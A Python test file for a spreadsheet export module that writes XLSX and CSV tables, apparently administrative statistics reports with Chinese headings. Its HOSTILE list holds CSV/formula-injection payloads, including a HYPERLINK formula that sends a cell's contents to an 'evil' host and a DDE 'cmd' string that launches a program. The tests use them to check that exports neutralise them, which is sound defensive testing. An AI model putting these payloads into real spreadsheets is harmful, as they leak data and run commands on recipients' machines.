"""Workbooks and CSV: text that no program runs, numbers that can be added up, bytes that stay."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from collections.abc import Sequence
from datetime import date
from decimal import Decimal
from fractions import Fraction

import openpyxl
import pytest
from openpyxl.worksheet.worksheet import Worksheet
from support import ROOT

from taizhang.documents.sheets import CellKind, Column, Sheet, as_csv, as_xlsx

DAY = date(2023, 5, 29)
HOSTILE = [
    '=HYPERLINK("http://evil?"&A1,"点我")',
    "＝cmd|' /C calc'!A0",
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r\n=1",
    "　=1",
    " ＋1",
    "|calc",
    "%0A",
    "http://evil.example/",
    "mailto:a@example.org",
    "]]>",
    "a\x0bb",
    "_x000D_",
    "00123",
    "110105194912310021",
    '"引号",逗号',
]


def sheet(*texts: str) -> Sheet:
    columns = [
        Column("序号", CellKind.NUMBER, 5),
        Column("单位"),
        Column("排查", CellKind.COUNT, 6, "一般"),
        Column("率", CellKind.RATE, 8, "一般"),
    ]
    columns += [Column("资金", CellKind.AMOUNT), Column("日期", CellKind.DATE)]
    rows = [(n, text, 0, Fraction(2, 3), Decimal("12.5"), DAY) for n, text in enumerate(texts or ("甲",), 1)]
    total = (None, "合计", 3, "—", Decimal("1234567.89"), None)
    return Sheet("统计表", columns, rows, total, "标题", "统计周期", ("注：空格表示没有。",), fixed=2)


def opened(*sheets: Sheet) -> Worksheet:
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(sheets, DAY, "标题")))
    return book.worksheets[0]


def column(page: Worksheet, letter: str, first: int = 5) -> list[object]:
    return [cell.value for cell in page[letter][first - 1 :]]


def read(raw: bytes) -> Sequence[list[str]]:
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_whatever_text_holds_is_a_text_cell() -> None:
    page = opened(sheet(*HOSTILE))
    cells = [cell for row in page.iter_rows() for cell in row]
    assert [cell for cell in cells if cell.data_type == "f"] == []
    assert [cell for cell in cells if cell.hyperlink] == []
    texts = [page.cell(5 + n, 2) for n in range(len(HOSTILE))]
    assert {cell.data_type for cell in texts} == {"s"}
    for cell, text in zip(texts, HOSTILE, strict=True):
        if "\x0b" not in text and "\r" not in text and text != "_x000D_":
            assert cell.value == text


def test_numbers_are_numbers_and_zero_is_only_unseen() -> None:
    page = opened(sheet())
    number, _, found, rate, funds, day = (page.cell(5, n) for n in range(1, 7))
    assert [cell.data_type for cell in (number, found, rate, funds)] == ["n"] * 4
    assert (number.value, found.value, rate.value, funds.value) == (1, 0, pytest.approx(2 / 3), 12.5)
    assert (found.number_format, rate.number_format) == ("0;-0;", "0.0%")
    assert day.value is not None
    assert day.is_date
    assert page["D6"].value == "—"


def test_the_heading_stays_in_sight_and_comes_again_in_print() -> None:
    page = opened(sheet())
    assert page.freeze_panes == "C5"
    assert page.print_title_rows == "$3:$4"
    setup = page.page_setup
    # As wide as one page is what the format takes for granted, as many pages long as it needs is not.
    assert (setup.orientation, int(setup.paperSize), setup.fitToWidth or 1, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert page.sheet_properties.pageSetUpPr is not None
    assert page.sheet_properties.pageSetUpPr.fitToPage


def test_columns_of_a_group_stand_below_one_heading() -> None:
    page = opened(sheet())
    assert [page.cell(3, n).value for n in range(1, 7)] == ["序号", "单位", "一般", None, "资金", "日期"]
    assert [page.cell(4, n).value for n in (3, 4)] == ["排查", "率"]
    assert {"C3:D3", "A3:A4"} <= {str(merged) for merged in page.merged_cells.ranges}


def test_a_sheet_without_groups_or_total_is_plain() -> None:
    page = opened(Sheet("单", [Column("名")], [("甲",)]))
    assert [cell.value for cell in page["A"]] == ["名", "甲"]
    assert page.freeze_panes == "A2"


def test_names_of_sheets_are_such_as_the_format_takes() -> None:
    named = ["县卫健委及所属单位", "县卫健委及所属单位", "a[b]:*?/\\c", "长" * 40, "长" * 40, "'引'", "///", "History"]
    plain = [Sheet(name, [Column("名")], [("甲",)]) for name in named]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx(plain, DAY)))
    found = book.sheetnames
    assert found[:2] == ["县卫健委及所属单位", "县卫健委及所属单位(2)"]
    assert found[3:] == ["长" * 31, "长" * 28 + "(2)", "引", "-", "History(2)"]
    assert not set("".join(found)) & set("[]:*?/\\'")


def test_a_cell_too_long_for_the_format_is_an_error_and_not_lost() -> None:
    with pytest.raises(ValueError, match="40000"):
        as_xlsx([sheet("长" * 40_000)], DAY)


def test_csv_has_a_mark_for_excel_and_every_cell_quoted() -> None:
    raw = as_csv(sheet())
    assert raw.startswith("\ufeff".encode())
    first, *_ = raw.decode("utf-8-sig").split("\r\n")
    assert first == '"序号","单位","一般排查","一般率","资金","日期"'
    assert read(raw)[1:] == [["1", "甲", "0", "66.7%", "12.5", "2023-05-29"], ["", "合计", "3", "—", "1234567.89", ""]]


def test_nothing_in_csv_begins_like_a_formula() -> None:
    rows = read(as_csv(sheet(*HOSTILE)))
    assert len(rows) == len(HOSTILE) + 2
    for row in rows:
        for cell in row:
            assert not cell.lstrip().startswith(tuple("=+-@＝＋－＠|%")), cell
            assert not set(cell) & set("\r\n\t\x0b")


def test_csv_keeps_what_is_harmless_as_it_is() -> None:
    assert [row[1] for row in read(as_csv(sheet("00123", '"引号",逗号', "蒙医综合医院")))][1:4] == [
        "00123",
        '"引号",逗号',
        "蒙医综合医院",
    ]


PROGRAM = """
import sys
sys.path[:0] = [{root!r}, {tests!r}]
from test_workbooks import DAY, HOSTILE, as_csv, as_xlsx, sheet
sys.stdout.buffer.write(as_xlsx([sheet(*HOSTILE)], DAY) + as_csv(sheet(*HOSTILE)))
"""


def test_the_bytes_are_the_same_in_every_time_zone() -> None:
    program = PROGRAM.format(root=str(ROOT), tests=str(ROOT / "tests"))
    made = {
        subprocess.run(
            [sys.executable, "-c", program], env={**os.environ, "TZ": zone}, capture_output=True, check=True
        ).stdout
        for zone in ("America/New_York", "Asia/Shanghai")
    }
    assert len(made) == 1
    with zipfile.ZipFile(io.BytesIO(as_xlsx([sheet()], DAY))) as package:
        assert {entry.date_time for entry in package.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert b"2023-05-29T00:00:00Z" in package.read("docProps/core.xml")
